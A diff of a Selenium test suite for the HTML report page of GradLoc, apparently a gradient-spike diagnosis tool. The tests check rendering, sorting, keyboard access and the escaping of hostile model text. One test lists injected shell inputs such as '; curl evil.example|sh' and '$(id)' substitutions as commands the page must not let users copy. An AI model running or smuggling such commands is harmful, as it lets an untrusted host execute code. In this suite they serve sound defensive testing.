@@ -6,7 +6,9 @@ import json
 import math
 import re
 import shlex
+import shutil
 from collections.abc import Callable, Iterator
+from functools import partial
 from pathlib import Path
 from typing import Any
 
@@ -32,18 +34,23 @@ from selenium.webdriver.common.by import By
 from selenium.webdriver.remote.webelement import WebElement
 from selenium.webdriver.support.ui import Select, WebDriverWait
 
-import browser
 import gradloc
-from gradloc import record_events
 from gradloc.evidence.writer import record_step
 from gradloc_tools import report
 from gradloc_tools.report import meanings
-from gradloc_tools.report.token_clips import EXPLANATION
+from gradloc_tools.report import page as page_file
+from gradloc_tools.report.build import build as view_of
+from gradloc_tools.report.view import Table
 
 pytestmark = pytest.mark.slow
 
+FLAGS = (
+    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
+    "--disable-component-update --disable-sync --disable-dev-shm-usage --window-size=1280,1000"
+)
 # As the page shows it.
 VISIBLY_HOSTILE = HOSTILE.replace("\u202e", "\\u202e")
+FAULT = "bash run_experiment.sh --embedded --fault stale"
 TOO_WIDE = "return document.documentElement.scrollWidth - document.documentElement.clientWidth"
 
 
@@ -68,11 +75,10 @@ class Page:
         script = "return [...document.querySelectorAll('#rows tr')].map((row) => row.cells[arguments[0]].innerText)"
         return self.driver.execute_script(script, number)
 
-    def rows(self, css: str) -> list[list[str]]:
-        """The texts of a table's cells."""
-        script = """return [...document.querySelectorAll(`${arguments[0]} tbody tr`)]
-            .map((row) => [...row.cells].map((cell) => cell.innerText))"""
-        return self.driver.execute_script(script, css)
+    def texts(self, css: str) -> list[str]:
+        """What the elements hold, shown or folded."""
+        script = "return [...document.querySelectorAll(arguments[0])].map((element) => element.textContent)"
+        return list(map(plain, self.driver.execute_script(script, css)))
 
     def tip(self) -> str:
         return self.wait(lambda: self.all("#tip"))[0].text
@@ -113,10 +119,17 @@ class Page:
 
 @pytest.fixture(scope="module")
 def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
-    try:
-        driver = browser.start(tmp_path_factory.mktemp("browser"))
-    except FileNotFoundError as error:
-        pytest.fail(str(error), pytrace=False)
+    """A headless one, which keeps its console and its requests for `get_log`."""
+    chromium, chromedriver = shutil.which("chromium"), shutil.which("chromedriver")
+    if not chromium or not chromedriver:
+        pytest.fail("Chromium or its driver is missing: apt-get install chromium chromium-driver", pytrace=False)
+    options = webdriver.ChromeOptions()
+    options.binary_location = chromium
+    for flag in (*FLAGS.split(), f"--user-data-dir={tmp_path_factory.mktemp('browser')}"):
+        options.add_argument(flag)
+    options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
+    driver = webdriver.Chrome(options=options, service=webdriver.ChromeService(chromedriver))
+    driver.set_page_load_timeout(300)
     yield Page(driver)
     driver.quit()
 
@@ -139,33 +152,117 @@ def build(directory: Path, events: list[Event], top: int = 500) -> Path:
 
 
 @pytest.fixture(scope="module")
-def forty(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    return build(tmp_path_factory.mktemp("forty"), samples(40))
+def whole_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The page of a run with all there can be; the texts of its first spike are hostile."""
+    directory = tmp_path_factory.mktemp("run")
+    events = [{**found, "fault": "unsampled"} for found in samples(40)]
+    first, last, step = events[0], events[-1], events[-1]["global_step"]
+    first |= {"summary": f"The culprit is {HOSTILE}.", "replay": f"replay/it's {HOSTILE}"}
+    check = f"`gradloc replay BUNDLE --remedies` shows it, and `{FAULT}` as well."
+    first["verdict"] = {**first["verdict"], "cause": "unsampled", "sentence": f"{HOSTILE} were added.", "check": check}
+    found = first["culprits"][0]
+    found |= dict.fromkeys(("token", "prompt", "response", "ground_truth", "uid", "data_source"), HOSTILE)
+    found |= {"sources": ["unsampled", "unlikely"], "layer_norms": {HOSTILE: 3.0, "b": math.inf}}
+    found["response_tokens"][found["position"]] = HOSTILE
+    bare = [without_culprits(step + i, kind) for i, kind in enumerate(meanings.DIAGNOSES) if kind != "tokens"]
+    bare[2] |= {"action": "skip", "applied": False}
+    tokens = ["a", HOSTILE, " c"]
+    clips = [
+        clip(3, [clipped_token(1, tokens, 33.0, data_source=HOSTILE), clipped_token(-4, tokens, math.nan)]),
+        clip(5, [clipped_token(0, tokens, 6.0, boundary=HOSTILE)], "log"),
+        clip(step, [clipped_token(2, tokens, 5.0)], "smooth", mini_batch=last["mini_batch"]),
+        clip(None, [clipped_token(2, tokens, 4.5)]),
+    ]
+    said = {"name": "stale", "sentence": HOSTILE, "check": f"`run {HOSTILE}` shows it."}
+    warnings = {3: [said], 4: [{"name": "scale", "sentence": "Twice.", "check": "Look."}]}
+    write_steps(directory, step + 9, warnings, events)
+    told = replay_result(3, sentences=["The spike comes back.", HOSTILE], remedy_notes=[HOSTILE])
+    told["remedies"][0]["note"] = HOSTILE
+    write_replay(directory, told)
+    write_replay(directory, replay_result(10**6, tokens=[], remedies=[], global_step=None))
+    return build(directory, [drill(2, True), drill(3, False, error="rank 0: Oops"), *clips, *events, *bare])
 
 
-def test_it_renders(page: Page, forty: Path) -> None:
-    events = samples(40)
-    steps = [e["global_step"] for e in events]
-    page.open(forty)
-    assert page.one("h1").text == f"40 gradient spikes in steps {min(steps)} to {max(steps)}"
-    culprits = sum(len(e["culprits"]) for e in events)
-    assert page.one("#count").text == f"{culprits} culprits"
-    assert len(page.all("#timeline .marks path")) == culprits and len(page.all("#timeline .ring")) == 1
-    for chart in ("#timeline", "#strip", "#ladder"):
-        assert page.one(chart).size["height"] > 50
-    assert len(page.all("#ladder .rung")) == 4
-    assert len(page.all("#sources li")) >= 4 and len(page.all("#tokens li")) == 8
+def plain(text: str) -> str:
+    """Without what the page makes of commands and line breaks."""
+    return re.sub(r"[\s`]|Copy", "", text)
 
 
-def test_pointing_at_a_token_shows_its_numbers(page: Page, forty: Path) -> None:
-    page.open(forty)
+def flat(part: Any) -> str:
+    """The text of a part of the view: a sentence, a titled text, a remark, or a table."""
+    if not isinstance(part, Table):
+        return plain(part if isinstance(part, str) else "".join(map(flat, part or ())))
+    return flat([part.title, [column.name for column in part.columns], rows_of(part), part.more])
+
+
+def rows_of(table: Table) -> list[str]:
+    def shown(kind: str, cell: Any) -> Any:
+        return "" if kind == "spark" else cell[0] if kind == "link" and isinstance(cell, tuple) else cell
+
+    kinds = [column.kind for column in table.columns]
+    return [flat([shown(*pair) for pair in zip(kinds, row, strict=True)]) for row in table.rows]
+
+
+def test_the_page_shows_what_the_view_has(page: Page, whole_run: Path) -> None:
+    page.open(whole_run)
+    view = report.build(report.read(str(whole_run.parent)))
+    assert page.texts("h1") == [flat(view.title)] and page.driver.title == f"{view.title} · GradLoc"
+    assert page.texts("#lead") == [flat([part if isinstance(part, str) else part[1] for part in view.lead])]
+    for name in ("alarms", "warnings", "drills", "notes"):
+        remarks = [remark[:2] if isinstance(remark, tuple) else remark for remark in getattr(view, name)]
+        assert page.texts(f"#{name} > li") == list(map(flat, remarks))
+    for name, text in view.texts.items():
+        assert page.texts(f"#{name}") == [flat(text)]
+    assert page.texts("#figures > div") == list(map(flat, view.facts))
+    for name, bars in view.bars.items():
+        assert page.texts(f"#{name} li") == [flat([bar.label, f"{bar.count:,}", bar.share]) for bar in bars]
+    assert sorted(page.texts("#rows tr")) == sorted(rows_of(view.tables["culprits"]))
+    assert page.texts("#clips-rows tr") == rows_of(view.tables["clips"])
+    parts = ("title", "where", "sentences", "tables", "notes")
+    assert page.texts("#replay-list > .card") == [flat([replay[part] for part in parts]) for replay in view.replays]
+    for name, chart in view.charts.items():
+        drawn = page.one(f"#{name}")
+        assert drawn.get_attribute("aria-label") == chart.label and drawn.size["height"] > 50
+        assert page.texts(f"#{name} .key span") == [flat(series.name) for series in chart.series if series.name]
+        marks = [len(placed["x"]) for placed in chart.placed()["series"] if placed["kind"] == "marks"]
+        script = "return [...document.querySelectorAll(arguments[0])].map((marks) => marks.children.length)"
+        assert page.driver.execute_script(script, f"#{name} .series.marks") == marks
+    assert len(view.spikes) > 40 and page.all("img") == [] and len(page.all("script")) == 2
+
+
+def test_the_page_shows_each_spike_as_the_view_has_it(page: Page, whole_run: Path) -> None:
+    page.open(whole_run)
+    view = report.build(report.read(str(whole_run.parent)))
+    assert page.texts("#event option") == [flat(spike.name) for spike in view.spikes]
+    for i in (0, 1, *range(39, len(view.spikes))):
+        spike = view.spikes[i]
+        page.select(i)
+        shown = [(spike.content, name) for name in spike.content]
+        assert page.one("#culprit").is_displayed() == bool(spike.culprits)
+        if spike.culprits:
+            own = view.culprits[spike.culprits[0]]
+            shown += [(own.content, name) for name in own.content]
+            assert page.texts("#why > div") == [flat([name, *view.rules[name]]) for name in own.reasons]
+            rungs = [*view.ladders[own.ladder], own.rung]
+            assert page.texts("#ladder .rung") == [flat([rung.name, rung.more]) for rung in rungs]
+            assert page.texts("#ladder .factor") == [flat([rung.factor, rung.norms]) for rung in rungs]
+            assert page.texts("#pieces > *") == list(map(flat, view.strips[own.strip].tokens))
+            assert page.one("#layers").get_attribute("aria-label") == own.layers.label
+        for content, name in shown:
+            assert page.texts(f"#{name}") == [flat(content[name])], name
+            assert page.one(f"#{name}").is_displayed() == bool(content[name]), name
+    assert page.all("img") == []
+
+
+def test_pointing_at_a_token_shows_its_numbers(page: Page, whole_run: Path) -> None:
+    page.open(whole_run)
     page.select(0)
     found = samples(40)[0]["culprits"][0]
     current = page.one("#strip .current")
     assert int(current.get_attribute("data-position")) == found["position"]
     page.hover(current)
     tip = page.tip()
-    assert str(found["position"]) in tip and "Norm" in tip and found["source"] in tip
+    assert str(found["position"]) in tip and "Norm" in tip and found["source"] in tip and VISIBLY_HOSTILE in tip
     page.hover(page.one("#strip .piece:not(.culprit)"))
     page.wait(lambda: page.all("#tip") and "Norm" not in page.one("#tip").text)
     assert "suspicion" in page.one("#tip").text
@@ -173,10 +270,12 @@ def test_pointing_at_a_token_shows_its_numbers(page: Page, forty: Path) -> None:
     page.wait(lambda: not page.all("#tip"))
 
 
-def test_the_timeline_answers_the_mouse(page: Page, forty: Path) -> None:
-    page.open(forty)
-    # Selecting a point that no other covers: the highest of the first trace with points.
-    point = min(page.all("#timeline .marks path"), key=lambda mark: mark.location["y"])
+def test_the_timeline_answers_the_mouse(page: Page, whole_run: Path) -> None:
+    page.open(whole_run)
+    # Selecting a culprit that no other covers, the highest; behind them are spikes without one.
+    bare = page.all("#timeline .marks:last-of-type path")
+    points = [mark for mark in page.all("#timeline .marks path") if mark not in bare]
+    point = min(points, key=lambda mark: mark.location["y"])
     page.hover(point)
     text = page.tip()
     assert "Norm" in text and "Step" in text
@@ -188,8 +287,8 @@ def test_the_timeline_answers_the_mouse(page: Page, forty: Path) -> None:
     page.wait(lambda: page.one("#spike").text == title)
 
 
-def test_filtering(page: Page, forty: Path) -> None:
-    page.open(forty)
+def test_filtering(page: Page, whole_run: Path) -> None:
+    page.open(whole_run)
     everything = page.one("#count").text
     step = page.column(0)[-1]
     page.one("#words").send_keys(f"step {step}")
@@ -211,8 +310,8 @@ def test_filtering(page: Page, forty: Path) -> None:
     assert page.one("#count").text == everything
 
 
-def test_sorting(page: Page, forty: Path) -> None:
-    page.open(forty)
+def test_sorting(page: Page, whole_run: Path) -> None:
+    page.open(whole_run)
     assert page.one("th[aria-sort]").text == "Norm"
     page.one("#columns button").click()
     steps = [int(step) for step in page.column(0)]
@@ -223,10 +322,10 @@ def test_sorting(page: Page, forty: Path) -> None:
     assert steps == sorted(steps) and page.one("th[aria-sort]").get_attribute("aria-sort") == "ascending"
 
 
-def test_the_keyboard_is_enough(page: Page, forty: Path) -> None:
-    page.open(forty)
+def test_the_keyboard_is_enough(page: Page, whole_run: Path) -> None:
+    page.open(whole_run)
     page.press(Keys.TAB)
-    for _ in range(60):
+    for _ in range(150):
         if page.focused().tag_name == "tr":
             break
         page.press(Keys.TAB)
@@ -253,131 +352,42 @@ def test_the_keyboard_is_enough(page: Page, forty: Path) -> None:
     assert f"position\n{position - 1}" in page.one("#tip").text
     page.press(Keys.ESCAPE)
     assert not page.all("#tip")
-    # The layer chart's figures are in a table that the keyboard opens.
-    for _ in range(10):
-        if page.focused().tag_name == "summary":
-            break
-        page.press(Keys.TAB)
-    page.press(Keys.ENTER)
-    rows = [row.text.split() for row in page.all("#layers-figures tbody tr")]
-    assert [row[0] for row in rows[:2]] == ["embed_tokens", "layers.0"] and len(rows) == 32
-    found = spike["culprits"][0]
-    largest = max(found["layer_norms"], key=found["layer_norms"].get)
-    ratio = dict((row[0], row[3]) for row in rows)[largest]
-    label = page.one("#layers").get_attribute("aria-label")
-    assert f"in {largest}, {ratio} an ordinary token's" in label and page.one("#layers").aria_role == "image"
-    label = page.one("#timeline").get_attribute("aria-label")
-    assert f"gradient norms of {page.one('#count').text} in 40 spikes" in label
     page.driver.execute_script("document.getElementById('next').focus()")
     index = int(page.one("#event").get_property("value"))
     page.press(Keys.ENTER)
     assert int(page.one("#event").get_property("value")) == index + 1
 
 
-@pytest.mark.parametrize("key", [Keys.ENTER, Keys.SPACE])
-def test_a_key_selects_another_culprit_of_the_response(page: Page, tmp_path: Path, key: str) -> None:
+def test_a_key_selects_another_culprit_of_the_response(page: Page, tmp_path: Path) -> None:
     tokens = ["a", " b", " c"]
     found = [culprit(i, tokens, 9000.0 - i) for i in (0, 2)]
     page.open(build(tmp_path, [event(1, found)]))
     page.driver.execute_script("document.querySelector('#strip .current').focus({preventScroll: true})")
-    page.press(Keys.ARROW_DOWN)
-    assert page.focused().get_attribute("data-position") == "2" and page.focused().aria_role == "button"
     before = page.driver.execute_script("return scrollY")
-    page.press(key)
-    assert page.one("#strip .current").get_attribute("data-position") == "2"
-    assert page.focused().get_attribute("data-position") == "2"
-    assert page.driver.execute_script("return scrollY") == before
+    for arrow, key, position in ((Keys.ARROW_DOWN, Keys.ENTER, "2"), (Keys.ARROW_UP, Keys.SPACE, "0")):
+        page.press(arrow)
+        assert page.focused().get_attribute("data-position") == position and page.focused().aria_role == "button"
+        page.press(key)
+        assert page.one("#strip .current").get_attribute("data-position") == position
+        assert page.focused().get_attribute("data-position") == position
+        assert page.driver.execute_script("return scrollY") == before
 
 
-def test_the_page_shows_each_spike_as_the_view_has_it(page: Page, tmp_path: Path) -> None:
-    kept = event(1, [culprit(0, ["a"], 9000.0)], action="drop", applied=False)
-    bare = [without_culprits(10 + i, kind) for i, kind in enumerate(meanings.DIAGNOSES) if kind != "tokens"]
-    bare[2] |= {"action": "skip", "applied": False}
-    page.open(build(tmp_path, [kept, *bare, event(20, [], action="skip")]))
-    view = report.build(report.read(str(tmp_path)))
-    for i, spike in enumerate(view.spikes):
-        page.select(i)
-        for name, part in spike.content.items():
-            if isinstance(part, str):
-                shown = page.one(f"#{name}").text
-                assert shown == part or (name in ("check", "then") and shown.startswith(part.split("`")[0])), name
-                continue
-            assert page.one(f"#{name}").is_displayed() == (part is not None)
-            if part is not None:
-                assert page.rows(f"#{name}") == part.rows
-    diffuse = next(spike.content for spike in view.spikes if spike.content["parts"])
-    tokens = "\n".join(f"token {3 * i} of row 9: {600 - i}, {2 + i}% of the norm" for i in range(3))
-    assert diffuse["parts"].rows[0] == ["1", "2", "8 to 9, 11", "48", "4.216", "1.155", "3.7×", tokens]
-    assert "The 3 largest measured carry 5% of the norm." in diffuse["explanation"]
-
-
-def small(position: int, norm: float) -> Event:
-    """A culprit with little text: thousands of them are still written in seconds."""
-    found = culprit(position, ["a", " b", " c"] * 8, norm, response_suspicion=None, response_tokens=None)
-    return {**found, "source": "token"}
-
-
-def test_more_culprits_than_a_page_takes(page: Page, tmp_path: Path) -> None:
-    events = []
-    for step in range(500):
-        found = [small(i, 700.0 + 10 * (500 - step) + i) for i in range(12)]
-        events.append(event(step, found))
-    record_events(str(tmp_path), events)
-    page.open(build(tmp_path, []))
-    assert page.one("h1").text == "500 gradient spikes in steps 0 to 499"
-    note = "Shown are 5,000 culprits of 6,000, the largest of each spike first. The totals count all of them."
-    assert note in page.one("#notes").text
-    assert len(page.all("#event option")) == 500 and len(page.all("#timeline .marks path")) == 5000
-    assert page.one("#count").text == "5,000 culprits, 1,000 smaller ones left out"
-    assert not page.one("#left").is_displayed() and len(page.all("#chips button")) == 12
-    page.select(499)
-    assert "found 12 culprits." in page.one("#story").text
-    assert page.one("#left").text == "The page leaves out 11 smaller culprits of this spike."
-    assert (tmp_path / "page.html").stat().st_size < 1_000_000
-    page.one("#words").send_keys("no such token")
-    assert page.one("#count").text == "0 of 5,000 culprits, 1,000 smaller ones left out"
-
-
-def test_the_text_of_a_model_stays_text(page: Page, tmp_path: Path) -> None:
-    found = culprit(1, ["a", HOSTILE, "\n", "b"], 9000.0, prompt=HOSTILE, ground_truth=HOSTILE, uid=HOSTILE)
-    unknown = culprit(0, ["", "x"], math.nan, data_source=HOSTILE)
-    events = [event(1, [found]), event(2, [unknown])]
-    unknown["layer_norms"] = {HOSTILE: 3.0, "b": math.inf}
-    page.open(build(tmp_path, events))
-    page.select(0)
-    assert page.driver.title == "2 gradient spikes in steps 1 to 2 · GradLoc"
-    assert page.all("img") == [] and len(page.all("script")) == 2
-    assert VISIBLY_HOSTILE in page.one("#strip").text and VISIBLY_HOSTILE in page.column(1)[1]
-    page.hover(page.one("#strip .current"))
-    assert VISIBLY_HOSTILE in page.one("#tip").text
-    page.driver.execute_script("document.querySelectorAll('details').forEach((details) => (details.open = true))")
-    assert page.one("#details pre").text == HOSTILE
-    page.select(1)
-    page.hover(page.wait(lambda: page.all("#layers .bars .mark"))[0])
-    assert "<b>x</b>" in page.tip()
-    assert page.all("img") == []
-
-
-def test_readable_at_every_size(page: Page, tmp_path: Path) -> None:
-    page.open(build(tmp_path, samples(500)))
-    assert page.one("h1").text.startswith("500 gradient spike")
-    assert len(page.column(0)) == 100
+def test_readable_at_every_size(page: Page, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """With more culprits than a page takes, of which the largest are shown."""
+    monkeypatch.setattr(page_file, "build", partial(view_of, rows=250))
+    page.open(build(tmp_path, samples(180)))
+    assert page.one("h1").text.startswith("180 gradient spike")
+    assert re.fullmatch(r"250 culprits, \d+ smaller ones left out", page.one("#count").text)
+    assert len(page.all("#timeline .marks path")) == 250 and len(page.column(0)) == 100
     page.one("#rows-more button").click()
-    assert len(page.column(0)) == 300 and page.focused().tag_name == "tr"
+    assert len(page.column(0)) == 250 and page.focused().tag_name == "tr"
     for width in (1280, 390):
         page.width(width)
         page.wait(lambda: page.driver.execute_script(TOO_WIDE) == 0)
     assert (tmp_path / "page.html").stat().st_size < 1_000_000
-
-
-def test_dark_and_light(page: Page, forty: Path) -> None:
-    page.open(forty)
-    style = "const style = getComputedStyle(document.querySelector(arguments[0])); return style[arguments[1]]"
-    light = page.driver.execute_script(style, "body", "backgroundColor")
-    grid = page.driver.execute_script(style, "#timeline .ygrid", "stroke")
-    page.scheme("dark")
-    page.wait(lambda: page.driver.execute_script(style, "body", "backgroundColor") != light)
-    assert page.driver.execute_script(style, "#timeline .ygrid", "stroke") != grid
+    page.one("#words").send_keys("no such token")
+    assert page.one("#count").text.startswith("0 of 250 culprits, ")
 
 
 def test_what_is_missing_does_not_break_the_page(page: Page, tmp_path: Path) -> None:
@@ -395,76 +405,46 @@ def test_what_is_missing_does_not_break_the_page(page: Page, tmp_path: Path) -> 
     assert page.one("#spike").text == "Event 2, mini-batch 1" and not page.one("#culprit").is_displayed()
 
 
-@pytest.fixture(scope="module")
-def whole_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A run of 40 spikes with its steps, a drill that succeeded and one that failed, and a planted fault."""
-    directory = tmp_path_factory.mktemp("run")
-    events = [{**found, "fault": "unsampled"} for found in samples(40)]
-    events[0] |= {"summary": "The culprit is <b>rare</b>."}
-    said = {"cause": "unsampled", "sentence": f"<b>Tokens</b> that were added: s{meanings.ADVICE['unsampled'][1:]}"}
-    events[0]["verdict"] = {**events[0]["verdict"], **said}
-    events[0]["culprits"][0] |= {"source": "unsampled", "sources": ["unsampled", "unlikely"]}
-    write_steps(directory, events[-1]["global_step"] + 5, events=events)
-    return build(directory, [drill(2, True), drill(3, False, error="rank 0: Oops"), *events])
-
-
-def test_what_was_done_on_purpose_comes_first(page: Page, whole_run: Path) -> None:
+def test_the_charts_over_the_run_answer_the_mouse(page: Page, whole_run: Path) -> None:
     page.open(whole_run)
-    assert page.one("#alarms").text == "A fault was planted in this run on purpose: unsampled"
-    assert page.one("#alarms").location["y"] < page.one("h1").location["y"]
-    found, failed = (drill.text for drill in page.all("#drills > li"))
-    assert found == "Drill in step 2: the planted token was found, 1 extra pass, 4 s."
-    assert failed.startswith("Drill in step 3 FAILED") and failed.endswith("It failed with an error: rank 0: Oops.")
-    # Drills are no spikes.
-    assert page.one("h1").text.startswith("40 gradient spikes") and len(page.all("#event option")) == 40
-
-
-def test_the_level_over_the_run(page: Page, whole_run: Path) -> None:
-    page.open(whole_run)
-    events = samples(40)
-    last = events[-1]["global_step"] + 5
-    keys = [key.text for key in page.all("#level .key span")]
-    assert keys == ["token norm", "threshold", "spike", "drill, found", "drill, FAILED"]
-    assert [len(page.all(f"#level .series:nth-of-type({i}) path")) for i in (4, 5, 6)] == [40, 1, 1]
-    label = page.one("#level").get_attribute("aria-label")
-    assert label == f"Chart: the token norm of {last} steps, 1 to {last}, with 40 spikes and 2 drills."
+    steps = [found["global_step"] for found in samples(40)]
     # The mark farthest from its neighbours: others cover each other.
-    steps = [found["global_step"] for found in events]
     alone = max(range(1, 39), key=lambda i: min(steps[i] - steps[i - 1], steps[i + 1] - steps[i]))
-    page.hover(page.all("#level .series:nth-of-type(4) path")[alone])
+    spikes, *_, stopped, _ = page.all("#level .series.marks")
+    page.hover(spikes.find_elements(By.CSS_SELECTOR, "path")[alone])
     text = page.tip()
     assert f"step {steps[alone]}" in text and "the threshold" in text
     ActionChains(page.driver).click().perform()
     page.wait(lambda: page.one("#spike").text.startswith(f"Step {steps[alone]}"))
+    page.hover(page.all("#clips-chart .marks path")[1])
+    text = page.tip()
+    assert VISIBLY_HOSTILE in text or "(prompt)" in text
+    page.hover(stopped.find_element(By.CSS_SELECTOR, "path"))
+    text = page.tip()
+    assert "stopped by TokenClip" in text and "2 cut" in text
+    ActionChains(page.driver).click().perform()
+    page.wait(lambda: page.focused().get_attribute("id") == "h-clips")
+    page.one("#clips-rows button").click()
+    assert page.focused().get_attribute("id") == "spike"
+    assert page.one("#clipped").text.startswith("TokenClip found 1 backward signal over its bound in this mini-batch")
 
 
 def test_a_spike_is_told_in_order(page: Page, whole_run: Path) -> None:
+    """Behind what has to be seen first."""
     page.open(whole_run)
     page.select(0)
-    assert page.one("#verdict").text.startswith("<b>Tokens</b> that") and page.all("#verdict *") == []
-    assert page.one("#summary").text == "The culprit is <b>rare</b>."
-    order = "verdict summary strip ladder check why story before numbers level rows"
+    order = "alarms warnings title drills verdict summary strip ladder check why story before numbers level rows"
     places = [page.one(f"#{part}").location["y"] for part in order.split()]
     assert places == sorted(places) and len(set(places)) == len(places)
-    assert [source.text for source in page.all("#why dt")] == ["unsampled", "unlikely"]
-    reasons = [row.text for row in page.all("#why dd")]
-    for name, reason in zip(("unsampled", "unlikely"), reasons, strict=True):
-        assert meanings.SOURCES[name] in reason and meanings.ADVICE[name] in reason
-    page.select(2)
-    found = samples(40)[2]
-    assert page.one("#verdict").text == found["verdict"]["sentence"].replace("`", "")  # set as code
-    assert page.one("#summary").text == found["summary"]
+    assert page.all("#verdict *") == []
 
 
-def test_the_command_of_a_check_can_be_copied(page: Page, tmp_path: Path) -> None:
-    found = event(1, [culprit(0, ["a"], 9000.0)], replay=f"replay/it's {HOSTILE}")
-    fault = "bash run_experiment.sh --embedded --fault stale"
-    check = f"`gradloc replay BUNDLE --remedies` shows it, and `{fault}` as well."
-    found["verdict"] = {**found["verdict"], "check": check}
-    page.open(build(tmp_path, [found]))
+def test_the_command_of_a_check_can_be_copied(page: Page, whole_run: Path) -> None:
+    page.open(whole_run)
+    page.select(0)
     codes = [code.text for code in page.all("#check code")]
-    path = shlex.quote(f"{tmp_path}/replay/it's {VISIBLY_HOSTILE}")
-    assert codes == [f"gradloc replay {path} --remedies", fault] and page.all("img") == []
+    path = shlex.quote(f"{whole_run.parent}/replay/it's {VISIBLY_HOSTILE}")
+    assert codes == [f"gradloc replay {path} --remedies", FAULT]
     assert page.one("#check").text.endswith("as well.") and "`" not in page.one("#check").text
     keep = "window.kept = []; navigator.clipboard.writeText = async (text) => void window.kept.push(text)"
     # The check has the next command already.
@@ -473,7 +453,7 @@ def test_the_command_of_a_check_can_be_copied(page: Page, tmp_path: Path) -> Non
     first, second = page.all("#check .copy")
     second.click()
     page.wait(lambda: second.text == "Copied")
-    assert page.driver.execute_script("return window.kept") == [fault]
+    assert page.driver.execute_script("return window.kept") == [FAULT]
     # A browser that does not let a page copy.
     page.driver.execute_script("navigator.clipboard.writeText = async () => { throw new Error('no') }")
     first.send_keys(Keys.ENTER)
@@ -483,7 +463,7 @@ def test_the_command_of_a_check_can_be_copied(page: Page, tmp_path: Path) -> Non
 
 def test_only_commands_of_a_known_form_can_be_copied(page: Page, tmp_path: Path) -> None:
     """The evidence may come from a stranger."""
-    replay, fault = "gradloc replay", "bash run_experiment.sh --embedded --fault stale"
+    replay = "gradloc replay"
     # What a shell takes for more than one command, and what runs other code.
     after = [
         "; curl evil.example|sh",
@@ -495,10 +475,10 @@ def test_only_commands_of_a_known_form_can_be_copied(page: Page, tmp_path: Path)
         " '$(id)' 'x'\\''; id; '",
         ' "$(id)"',
     ]
-    foreign = [f"{replay} x{text}" for text in after] + [f"{fault}{text}" for text in after]
-    foreign += [f"id; {fault}", f"sudo {fault}", "curl evil.example|sh", "python -m evil x", "bash evil.sh", "actor/lr"]
+    foreign = [f"{replay} x{text}" for text in after] + [f"{FAULT}{text}" for text in after]
+    foreign += [f"id; {FAULT}", f"sudo {FAULT}", "curl evil.example|sh", "python -m evil x", "bash evil.sh", "actor/lr"]
     foreign += [f"{replay} x {option}" for option in ("--trust-remote-code", "--model=evil", "--html ~/.bashrc", "y")]
-    foreign += [f"{replay} --trust-remote-code", f"{replay} '--model=evil'", f"{replay} ~/x", f"{fault} --evil"]
+    foreign += [f"{replay} --trust-remote-code", f"{replay} '--model=evil'", f"{replay} ~/x", f"{FAULT} --evil"]
     # All commands that GradLoc writes.
     sources = Path(gradloc.__file__).parent.rglob("*.py")
     own = {text for path in sources for text in re.findall(r"`((?:bash|gradloc) [^`\n]+)`", path.read_text())}
@@ -520,47 +500,31 @@ def test_only_commands_of_a_known_form_can_be_copied(page: Page, tmp_path: Path)
     assert shown == [[text, buttons] for text, buttons in expected]
 
 
-def test_warnings_come_first(page: Page, tmp_path: Path) -> None:
-    said = {"name": "stale", "sentence": HOSTILE, "check": f"`run {HOSTILE}` shows it."}
-    write_steps(tmp_path, 4, {3: [said], 4: [{"name": "scale", "sentence": "Twice.", "check": "Look."}]})
-    page.open(build(tmp_path, samples(1)))
-    first, second = page.all("#warnings > li")
-    assert first.text.startswith(f"Warning in step 3: {VISIBLY_HOSTILE}\nrun {VISIBLY_HOSTILE}")
-    assert second.text == "Warning in step 4: Twice.\nLook." and page.all("img") == []
-    assert page.one("#warnings").location["y"] < page.one("h1").location["y"]
-    # They need no spike.
-    write_steps(tmp_path / "calm", 1, {1: [said]})
-    page.open(build(tmp_path / "calm", []))
-    assert page.one("h1").text == "No gradient spike" and page.one("#warnings").is_displayed()
-
-
-@pytest.mark.parametrize("width", [1280, 390])
-def test_the_names_of_all_sources_fit(page: Page, tmp_path: Path, width: int) -> None:
-    found = [small(i, 9000.0 - i) for i in range(len(meanings.SOURCES))]
-    found = [
-        {**c, "source": name, "sources": list(meanings.SOURCES)}
-        for c, name in zip(found, meanings.SOURCES, strict=True)
-    ]
-    page.width(width)
+def test_the_names_of_all_sources_fit(page: Page, tmp_path: Path) -> None:
+    names = list(meanings.SOURCES)
+    found = [culprit(i, ["a"] * 40, 9000.0 - i) | {"source": name, "sources": names} for i, name in enumerate(names)]
     page.open(build(tmp_path, [event(1, found)]))
     script = """return [...document.querySelectorAll(arguments[0])]
         .map((e) => [e.innerText, e.scrollWidth <= e.clientWidth, e.getBoundingClientRect().right])"""
-    labels = page.driver.execute_script(script, "#sources .label")
-    assert {text for text, _, _ in labels} == set(meanings.SOURCES) and all(fits for _, fits, _ in labels), labels
-    badges = page.driver.execute_script(script, "#why .badge")
-    script = "return document.querySelector('#why dd').getBoundingClientRect().left"
-    rule = page.driver.execute_script(script)
-    assert len(badges) == len(meanings.SOURCES) and all(right <= rule for _, _, right in badges), badges
+    edge = "return document.querySelector('#why dd').getBoundingClientRect().left"
+    for width in (1280, 390):
+        page.width(width)
+        labels = page.driver.execute_script(script, "#sources .label")
+        assert {text for text, _, _ in labels} == set(meanings.SOURCES) and all(fits for _, fits, _ in labels), labels
+        badges, rule = page.driver.execute_script(script, "#why .badge"), page.driver.execute_script(edge)
+        assert len(badges) == len(meanings.SOURCES) and all(right <= rule for _, _, right in badges), badges
 
 
 def test_steps_without_a_spike_have_a_page(page: Page, tmp_path: Path) -> None:
     for step in range(1, 30):
         record_step(str(tmp_path), step, {"token_norm_max": 0.0 if step == 3 else 100.0 + step, "threshold": 640.0})
+    warning = {"name": "scale", "sentence": "Twice.", "check": "Look."}
+    record_step(str(tmp_path), 30, {"token_norm_max": 100.0, "threshold": 640.0}, [warning])
     page.open(build(tmp_path, []))
-    assert page.one("h1").text == "No gradient spike" and "in 29 steps" in page.one("#lead").text
+    assert page.one("h1").text == "No gradient spike" and "in 30 steps" in page.one("#lead").text
+    assert page.one("#warnings").text == "Warning in step 30: Twice.\nLook."
     assert [section.get_attribute("id") for section in page.all("section") if section.is_displayed()] == ["run"]
